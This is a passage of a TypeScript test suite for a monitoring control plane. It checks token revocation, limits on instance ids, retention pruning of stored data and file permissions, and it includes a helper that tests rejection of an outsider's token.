    assert.equal(await tryUpgrade(p.cp.url, { Authorization: `Bearer ${newToken}`, 'X-Checkpoint-Instance': 'x' }), 401);
    const fresh = (await p.call('POST', '/api/v1/checkpoints/intranet/token', { graceSeconds: 600 })).body.token;
    assert.equal(await tryUpgrade(p.cp.url, { Authorization: `Bearer ${newToken}`, 'X-Checkpoint-Instance': 'x' }), 401, 'a revoked token gets no grace');
    const live = await p.agent(fresh, 'live');

    assert.deepEqual(((await p.call('GET', '/api/v1/checkpoints/intranet')).body.instances as { id: string }[]).map((i) => i.id).sort(), ['live', 'on-new', 'on-old']);
    assert.equal((await p.call('DELETE', '/api/v1/checkpoints/intranet/instances/on-old')).status, 204);
    assert.equal((await p.call('DELETE', '/api/v1/checkpoints/intranet/instances/nobody')).status, 404);
    assert.deepEqual(((await p.call('GET', '/api/v1/checkpoints/intranet')).body.instances as { id: string }[]).map((i) => i.id).sort(), ['live', 'on-new']);

    assert.equal((await p.call('DELETE', '/api/v1/checkpoints/intranet')).status, 204);
    await live.closed;
    assert.equal((await p.call('GET', '/api/v1/checkpoints/intranet')).status, 404);
    assert.equal((await p.call('GET', '/api/v1/monitors/login')).status, 404, 'its monitors went with it');
    assert.equal(await tryUpgrade(p.cp.url, { Authorization: `Bearer ${fresh}`, 'X-Checkpoint-Instance': 'x' }), 401);
    assert.equal((await p.call('DELETE', '/api/v1/checkpoints/intranet')).status, 404);
  });

  it('expires made-up instance ids and caps how many a checkpoint may have', async (t) => {
    const p = await plane(t, { hubLimits: { maxInstancesPerCheckpoint: 3 }, retentionDays: { instances: 7 } });
    const token = (await p.call('POST', '/api/v1/checkpoints', { name: 'intranet' })).body.token;
    for (const id of ['fake-1', 'fake-2', 'fake-3']) await (await p.agent(token, id)).close();
    assert.equal(await tryUpgrade(p.cp.url, { Authorization: `Bearer ${token}`, 'X-Checkpoint-Instance': 'fake-4' }), 403, 'a fourth id is refused');
    assert.equal(await tryUpgrade(p.cp.url, { Authorization: `Bearer ${token}`, 'X-Checkpoint-Instance': 'fake-1' }), 101, 'a known one is not');
    p.clock.advance(8 * 86_400_000);
    assert.equal((await p.cp.prune()).instances, 3);
    assert.deepEqual((await p.call('GET', '/api/v1/checkpoints/intranet')).body.instances, []);
    assert.equal(await tryUpgrade(p.cp.url, { Authorization: `Bearer ${token}`, 'X-Checkpoint-Instance': 'fake-4' }), 101);
  });

  it('prunes runs, results, alerts and artifacts past their retention, and keeps what is recent', async (t) => {
    const p = await plane(t, { retentionDays: { runs: 2, results: 1, alerts: 2, artifacts: 1 } });
    const token = (await p.call('POST', '/api/v1/checkpoints', { name: 'intranet' })).body.token;
    const a = await p.agent(token, 'a');
    await p.call('POST', '/api/v1/monitors', monitor('Login', 'intranet', { id: 'login' }));
    const png = new TextEncoder().encode('a screenshot');
    const old = await a.next('run');
    await a.answer(old, { status: 'failed', screenshot: png });
    await a.answer(await a.next('run'), { status: 'failed' });
    const artifactFile = join(p.dataDir, 'artifacts', sha256(png).slice(0, 2), sha256(png));
    await stat(artifactFile);
    assert.ok(((await p.call('GET', '/api/v1/alerts')).body.alerts).length >= 1);

    p.clock.advance(25 * 3_600_000);
    const dayLater = await p.cp.prune();
    assert.deepEqual([dayLater.runs, dayLater.results, dayLater.alerts, dayLater.artifacts], [0, 2, 0, 1], 'after a day: results and the unused artifact');
    await assert.rejects(stat(artifactFile), /ENOENT/);
    assert.equal((await p.call('GET', `/api/v1/runs/${old.runId}`)).body.result, null);
    p.clock.advance(24 * 3_600_000);
    const twoDays = await p.cp.prune();
    assert.deepEqual([twoDays.runs, twoDays.alerts > 0], [2, true]);
    assert.equal((await p.call('GET', `/api/v1/runs/${old.runId}`)).status, 404);
    assert.deepEqual((await p.call('GET', '/api/v1/alerts')).body.alerts, []);
  });

  it('creates its data directory 0700 and the database and artifacts 0600', async (t) => {
    const p = await plane(t);
    const token = (await p.call('POST', '/api/v1/checkpoints', { name: 'intranet' })).body.token;
    const a = await p.agent(token, 'a');
    assert.equal((await a.putArtifact(new TextEncoder().encode('bytes'))).status, 201);
    const mode = async (path: string) => (await stat(path)).mode & 0o777;
    assert.equal(await mode(p.dataDir), 0o700);
    assert.equal(await mode(join(p.dataDir, 'control-plane.db')), 0o600);
    for (const suffix of ['-wal', '-shm']) {
      const file = join(p.dataDir, `control-plane.db${suffix}`);
      if (await stat(file).catch(() => undefined)) assert.equal(await mode(file), 0o600, suffix);
    }
    const artifacts = join(p.dataDir, 'artifacts');
    assert.equal(await mode(artifacts), 0o700);
    const sha = sha256(new TextEncoder().encode('bytes'));
    assert.equal(await mode(join(artifacts, sha.slice(0, 2))), 0o700);
    assert.equal(await mode(join(artifacts, sha.slice(0, 2), sha)), 0o600);
  });
});

/** Posts a result with a checkpoint token, without a hub connection (an outsider with another checkpoint's token). */
class FakeAgentLike {
  readonly #url: string;
  readonly #token: string;
  readonly #instance: string;
  constructor(url: string, token: string, instance: string) {
    this.#url = url;
    this.#token = token;
    this.#instance = instance;
  }
  async post(envelope: unknown): Promise<{ status: number }> {
    const response = await fetch(`${this.#url}${agentPaths.results}`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${this.#token}`, 'Content-Type': 'application/json', 'X-Checkpoint-Instance': this.#instance },
      body: JSON.stringify({ ...(envelope as object), instanceId: this.#instance }),
    });
    await response.body?.cancel();
    return { status: response.status };
  }
}

